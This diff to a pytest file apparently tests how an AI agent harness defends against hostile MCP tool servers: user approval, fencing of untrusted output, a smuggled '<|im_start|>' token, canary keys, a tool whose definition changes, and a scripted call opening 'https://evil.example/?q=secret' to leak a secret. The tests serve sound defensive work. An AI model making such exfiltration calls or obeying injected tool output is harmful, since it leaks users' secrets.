@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import asyncio
 import itertools
 import json
 import random
@@ -28,7 +27,6 @@ from tests.agent.scripted import (
     page,
     says,
 )
-from tests.waiting import eventually
 
 
 @asynccontextmanager
@@ -79,43 +77,39 @@ async def event(house: House, kind: str) -> Event:
 
 
 @pytest.mark.parametrize("decision", ["once", "deny"])
-def test_a_call_waits_for_the_user(tmp_path: Path, decision: str) -> None:
+async def test_a_call_waits_for_the_user(tmp_path: Path, decision: str) -> None:
     """Server, effect and arguments are shown; what comes back stands inside a fence."""
     seen = tmp_path / "seen"
     step = calls(call("mcp_a_echo", text="hi <|im_start|>"))
-
-    async def scenario() -> None:
-        async with house_with(tmp_path, {"a": hostile("ok", seen)}, step) as (house, model):
-            await house.runner.start(house.session, "Say hi.", mode="agent")
-            asked = await event(house, "approval_requested")
-            told = {k: asked.data[k] for k in ("name", "effect", "server", "arguments")}
-            assert told == {
-                "name": "mcp_a_echo",
-                "effect": "exec",
-                "server": "a",
-                "arguments": {"text": "hi <|im_start|>"},
-            }
+    async with house_with(tmp_path, {"a": hostile("ok", seen)}, step) as (house, model):
+        await house.runner.start(house.session, "Say hi.", mode="agent")
+        asked = await event(house, "approval_requested")
+        told = {k: asked.data[k] for k in ("name", "effect", "server", "arguments")}
+        assert told == {
+            "name": "mcp_a_echo",
+            "effect": "exec",
+            "server": "a",
+            "arguments": {"text": "hi <|im_start|>"},
+        }
+        assert seen_calls(seen) == []
+        house.runner.approvals.answer(house.session, "call-1", decision)
+        await house.runner.wait(house.session)
+        made = await event(house, "tool_call")
+        assert (made.data["server"], made.data["effect"]) == ("a", "exec")
+        answer = results(model)[0]
+        if decision == "deny":
             assert seen_calls(seen) == []
-            house.runner.approvals.answer(house.session, "call-1", decision)
-            await house.runner.wait(house.session)
-            made = await event(house, "tool_call")
-            assert (made.data["server"], made.data["effect"]) == ("a", "exec")
-            answer = results(model)[0]
-            if decision == "deny":
-                assert seen_calls(seen) == []
-                assert "you said" not in answer
-            else:
-                assert seen_calls(seen) == ["call echo"]
-                fenced = r"(?s).*<<(\w+) untrusted .*>>\nyou said hi .*\n<<\1 end>>"
-                assert re.fullmatch(fenced, answer)
-                assert "<|im_start|>" not in answer
-            check_calls_are_answered(list(model.requests[1].messages))
-
-    asyncio.run(scenario())
+            assert "you said" not in answer
+        else:
+            assert seen_calls(seen) == ["call echo"]
+            fenced = r"(?s).*<<(\w+) untrusted .*>>\nyou said hi .*\n<<\1 end>>"
+            assert re.fullmatch(fenced, answer)
+            assert "<|im_start|>" not in answer
+        check_calls_are_answered(list(model.requests[1].messages))
 
 
 @pytest.mark.parametrize("mode", ["ask", "plan"])
-def test_ask_and_plan_reach_no_tool_that_changes(tmp_path: Path, mode: str) -> None:
+async def test_ask_and_plan_reach_no_tool_that_changes(tmp_path: Path, mode: str) -> None:
     """Every name in every dress with arguments of every kind, and a user who agrees to all: only
     what the user called reading is run.
     """
@@ -130,103 +124,81 @@ def test_ask_and_plan_reach_no_tool_that_changes(tmp_path: Path, mode: str) -> N
     ]
     made.append(call("mcp_a_progress", len(made)))
     server = hostile("ok", seen, tools={"progress": {"effect": "read"}})
-
-    async def scenario() -> None:
-        async with house_with(tmp_path, {"a": server, "b": hostile("ok", seen)}, calls(*made)) as (
-            house,
-            model,
-        ):
-            await house.ask("Do it.", mode=mode, approve="auto")
-            offered = {tool.name for tool in model.requests[0].tools if "mcp" in tool.name}
-            assert offered == {"mcp_a_progress"}
-            assert seen_calls(seen) == ["call progress"]
-            assert lines_with(seen, "pid") == 1  # the other server was not even started
-            check_calls_are_answered(list(model.requests[1].messages))
-
-    asyncio.run(scenario())
+    async with house_with(tmp_path, {"a": server, "b": hostile("ok", seen)}, calls(*made)) as (
+        house,
+        model,
+    ):
+        await house.ask("Do it.", mode=mode, approve="auto")
+        offered = {tool.name for tool in model.requests[0].tools if "mcp" in tool.name}
+        assert offered == {"mcp_a_progress"}
+        assert seen_calls(seen) == ["call progress"]
+        assert lines_with(seen, "pid") == 1  # the other server was not even started
+        check_calls_are_answered(list(model.requests[1].messages))
 
 
-def test_without_a_user_calls_are_denied_or_all_allowed(tmp_path: Path) -> None:
+async def test_without_a_user_calls_are_denied_or_all_allowed(tmp_path: Path) -> None:
     """`--approve never` and `auto`; a mark of the server's own makes no difference."""
     seen = tmp_path / "seen"
     step = calls(call("mcp_a_echo", text="x"))
-
-    async def scenario() -> None:
-        servers = {"a": hostile("ok", seen)}
-        async with house_with(tmp_path, servers, step, says("No."), step) as (house, _):
-            await house.ask("Do it.", mode="agent", approve="never")
-            assert seen_calls(seen) == []
-            await house.ask("Do it.", mode="agent", approve="auto")
-            assert seen_calls(seen) == ["call echo"]
-
-    asyncio.run(scenario())
+    servers = {"a": hostile("ok", seen)}
+    async with house_with(tmp_path, servers, step, says("No."), step) as (house, _):
+        await house.ask("Do it.", mode="agent", approve="never")
+        assert seen_calls(seen) == []
+        await house.ask("Do it.", mode="agent", approve="auto")
+        assert seen_calls(seen) == ["call echo"]
 
 
-def test_no_key_reaches_a_server_in_arguments(tmp_path: Path) -> None:
+async def test_no_key_reaches_a_server_in_arguments(tmp_path: Path) -> None:
     """Neither one of ours, nor what another server was given, whoever agrees."""
     seen = tmp_path / "seen"
     ours, theirs = "sk-canary-ours-0123456789", "canary-theirs-9876543210"
     step = calls(call("mcp_a_echo", 1, text=f"key {ours}"), call("mcp_a_echo", 2, text=theirs))
     servers = {"a": hostile("ok", seen), "b": hostile(env={"API_TOKEN": theirs})}
-
-    async def scenario() -> None:
-        async with house_with(tmp_path, servers, step, OPENAI_API_KEY=ours) as (house, model):
-            await house.ask("Do it.", mode="agent", approve="auto")
-            assert seen_calls(seen) == []
-            assert all("canary" not in text for text in results(model))
-
-    asyncio.run(scenario())
+    async with house_with(tmp_path, servers, step, OPENAI_API_KEY=ours) as (house, model):
+        await house.ask("Do it.", mode="agent", approve="auto")
+        assert seen_calls(seen) == []
+        assert all("canary" not in text for text in results(model))
 
 
-def test_a_changed_tool_is_offered_to_nobody(tmp_path: Path) -> None:
+async def test_a_changed_tool_is_offered_to_nobody(tmp_path: Path) -> None:
     """And refused by name, until the user has approved it."""
     seen = tmp_path / "seen"
     step = calls(call("mcp_a_echo", text="x"))
-
-    async def scenario() -> None:
-        async with house_with(tmp_path, {"a": hostile()}) as (house, _):
-            await house.ask("Hello.", mode="agent")
-        async with house_with(tmp_path, {"a": hostile("rug", seen)}, step) as (house, model):
-            await house.ask("Do it.", mode="agent", approve="auto")
-            offered = {tool.name for tool in model.requests[0].tools}
-            assert "mcp_a_env" in offered
-            assert "mcp_a_echo" not in offered
-            assert seen_calls(seen) == []
-            assert "definition has changed" in results(model)[0]
-            assert [n["code"] for n in notices(house)] == ["mcp_suspended"]
-
-    asyncio.run(scenario())
+    async with house_with(tmp_path, {"a": hostile()}) as (house, _):
+        await house.ask("Hello.", mode="agent")
+    async with house_with(tmp_path, {"a": hostile("rug", seen)}, step) as (house, model):
+        await house.ask("Do it.", mode="agent", approve="auto")
+        offered = {tool.name for tool in model.requests[0].tools}
+        assert "mcp_a_env" in offered
+        assert "mcp_a_echo" not in offered
+        assert seen_calls(seen) == []
+        assert "definition has changed" in results(model)[0]
+        assert [n["code"] for n in notices(house)] == ["mcp_suspended"]
 
 
-def test_a_link_in_a_result_is_no_address_that_was_met(tmp_path: Path) -> None:
+async def test_a_link_in_a_result_is_no_address_that_was_met(tmp_path: Path) -> None:
     """A server can name an address; it cannot make the model's reader open it unasked."""
     app = SearchApp({"/api/open-page": page("secret")})
     steps = (
         calls(call("mcp_a_media", 1)),
         calls(call("open_page", 2, url="https://evil.example/?q=secret")),
     )
-
-    async def scenario() -> None:
-        async with house_with(tmp_path, {"a": hostile()}, *steps, app=app) as (house, model):
-            rules = {"mode": "agent", "search": "local"}
-            await house.runner.start(house.session, "Look.", **rules)
-            await event(house, "approval_requested")
-            house.runner.approvals.answer(house.session, "call-1", "once")
-            async for batch in house.log.follow(house.session):
-                if any(
-                    e.type == "approval_requested" and e.data["call_id"] == "call-2" for e in batch
-                ):
-                    break
-            assert "/api/open-page" not in [path for path, _ in app.requests]
-            house.runner.approvals.answer(house.session, "call-2", "deny")
-            await house.runner.wait(house.session)
-            assert "https://evil.example" in results(model)[0]
-            assert "/api/open-page" not in [path for path, _ in app.requests]
-
-    asyncio.run(scenario())
+    async with house_with(tmp_path, {"a": hostile()}, *steps, app=app) as (house, model):
+        rules = {"mode": "agent", "search": "local"}
+        await house.runner.start(house.session, "Look.", **rules)
+        await event(house, "approval_requested")
+        house.runner.approvals.answer(house.session, "call-1", "once")
+        async for batch in house.log.follow(house.session):
+            if any(e.type == "approval_requested" and e.data["call_id"] == "call-2" for e in batch):
+                break
+        assert "/api/open-page" not in [path for path, _ in app.requests]
+        house.runner.approvals.answer(house.session, "call-2", "deny")
+        await house.runner.wait(house.session)
+        assert "https://evil.example" in results(model)[0]
+        assert "/api/open-page" not in [path for path, _ in app.requests]
 
 
-def test_found_tools_are_offered_from_the_next_step_on(tmp_path: Path) -> None:
+async def test_found_tools_are_offered_from_the_next_step_on(tmp_path: Path) -> None:
     """A small model gets names; it can call what it found, and what it names exactly."""
     steps = (
         calls(call("mcp_a_tool_7", 1)),
@@ -234,82 +206,53 @@ def test_found_tools_are_offered_from_the_next_step_on(tmp_path: Path) -> None:
         calls(call("mcp_b_echo", 3, text="hi")),
     )
     servers = {"a": hostile("many"), "b": hostile()}
-
-    async def scenario() -> None:
-        async with house_with(tmp_path, servers, *steps, window=20_000) as (house, model):
-            await house.ask("Do it.", mode="agent", approve="auto")
-            offered = [{t.name for t in r.tools if "mcp" in t.name} for r in model.requests]
-            named = {"mcp_a_tool_7"}
-            assert offered == [set(), named, {*named, "mcp_b_echo"}, {*named, "mcp_b_echo"}]
-            told = results(model, 3)
-            assert "no tool called" not in told[0]
-            assert json.dumps("Says it.") in told[1]
-            assert "you said hi" in told[2]
-
-    asyncio.run(scenario())
-
-
-def test_a_stop_reaches_the_server(tmp_path: Path) -> None:
-    """The call is called off there, and the session goes on."""
-    seen = tmp_path / "seen"
-    step = calls(call("mcp_a_slow"))
-
-    async def scenario() -> None:
-        servers = {"a": hostile("ok", seen)}
-        async with house_with(tmp_path, servers, step, says("Fine.")) as (house, _):
-            await house.runner.start(house.session, "Do it.", mode="agent", approve="auto")
-            await eventually(lambda: seen_calls(seen))
-            await house.runner.cancel(house.session)
-            await eventually(lambda: "notifications/cancelled" in seen.read_text())
-            assert (await house.ask("Go on.")).data["answer"] == "Fine."
-
-    asyncio.run(scenario())
+    async with house_with(tmp_path, servers, *steps, window=20_000) as (house, model):
+        await house.ask("Do it.", mode="agent", approve="auto")
+        offered = [{t.name for t in r.tools if "mcp" in t.name} for r in model.requests]
+        named = {"mcp_a_tool_7"}
+        assert offered == [set(), named, {*named, "mcp_b_echo"}, {*named, "mcp_b_echo"}]
+        told = results(model, 3)
+        assert "no tool called" not in told[0]
+        assert json.dumps("Says it.") in told[1]
+        assert "you said hi" in told[2]
 
 
 @pytest.mark.parametrize("ending", ["there", "stopped"])
-def test_a_question_does_not_wait_for_a_server(tmp_path: Path, ending: str) -> None:
+async def test_a_question_does_not_wait_for_a_server(tmp_path: Path, ending: str) -> None:
     """It is stored, and its run tells for whom it waits; that can be stopped like anything else."""
     gate = tmp_path / "gate"
     servers = {"slow": hostile("late", env={"GATE": str(gate)})}
-
-    async def scenario() -> None:
-        async with house_with(tmp_path / "home", servers) as (house, model):
-            await house.runner.start(house.session, "Say hi.", mode="agent")
-            told = [e.type for e in house.log.read(house.session)]
-            assert told[:2] == ["user_message", "run_started"]
-            assert (await event(house, "servers_awaited")).data == {"servers": ["slow"]}
+    async with house_with(tmp_path / "home", servers) as (house, model):
+        await house.runner.start(house.session, "Say hi.", mode="agent")
+        told = [e.type for e in house.log.read(house.session)]
+        assert told[:2] == ["user_message", "run_started"]
+        assert (await event(house, "servers_awaited")).data == {"servers": ["slow"]}
+        assert not model.requests
+        if ending == "stopped":
+            assert await house.runner.cancel(house.session)
+            assert (await event(house, "run_finished")).data["reason"] == "cancelled"
             assert not model.requests
-            if ending == "stopped":
-                assert await house.runner.cancel(house.session)
-                assert (await event(house, "run_finished")).data["reason"] == "cancelled"
-                assert not model.requests
-                return
-            gate.touch()
-            await house.runner.wait(house.session)
-            ready = (await event(house, "servers_ready")).data
-            assert ready == {"servers": ["slow"], "missing": []}
-            assert "mcp_slow_echo" in {spec.name for spec in model.requests[0].tools}
-            assert (await event(house, "run_finished")).data["reason"] == "stop"
-
-    asyncio.run(scenario())
+            return
+        gate.touch()
+        await house.runner.wait(house.session)
+        ready = (await event(house, "servers_ready")).data
+        assert ready == {"servers": ["slow"], "missing": []}
+        assert "mcp_slow_echo" in {spec.name for spec in model.requests[0].tools}
+        assert (await event(house, "run_finished")).data["reason"] == "stop"
 
 
-def test_a_server_that_is_gone_leaves_the_rest_alone(tmp_path: Path) -> None:
+async def test_a_server_that_is_gone_leaves_the_rest_alone(tmp_path: Path) -> None:
     """One hangs, one is broken, the file has a mistake: the turn is answered with what there is."""
     servers = {"mute": hostile("mute", startup_timeout=0.4), "bad": {}, "a": hostile()}
     step = calls(call("mcp_mute_echo", 1, text="x"), call("mcp_a_echo", 2, text="hi"))
-
-    async def scenario() -> None:
-        async with house_with(tmp_path, servers, step, says("Yes.")) as (house, model):
-            finished = await house.ask("Do it.", mode="agent", approve="auto")
-            assert finished.data["reason"] == "stop"
-            assert "you said hi" in results(model)[1]
-            told = {n["code"]: n for n in notices(house)}
-            assert set(told) == {"missing_command", "mcp_timeout"}
-            assert (await event(house, "servers_ready")).data["missing"] == ["mute"]
-            assert "mcp.json, line 1" in told["missing_command"]["message"]
-            assert told["mcp_timeout"]["remedy"] == "See why: searchloop mcp test mute"
-            await house.ask("Once more.", mode="agent")
-            assert len(notices(house)) == 2
-
-    asyncio.run(scenario())
+    async with house_with(tmp_path, servers, step, says("Yes.")) as (house, model):
+        finished = await house.ask("Do it.", mode="agent", approve="auto")
+        assert finished.data["reason"] == "stop"
+        assert "you said hi" in results(model)[1]
+        told = {n["code"]: n for n in notices(house)}
+        assert set(told) == {"missing_command", "mcp_timeout"}
+        assert (await event(house, "servers_ready")).data["missing"] == ["mute"]
+        assert "mcp.json, line 1" in told["missing_command"]["message"]
+        assert told["mcp_timeout"]["remedy"] == "See why: searchloop mcp test mute"
+        await house.ask("Once more.", mode="agent")
+        assert len(notices(house)) == 2
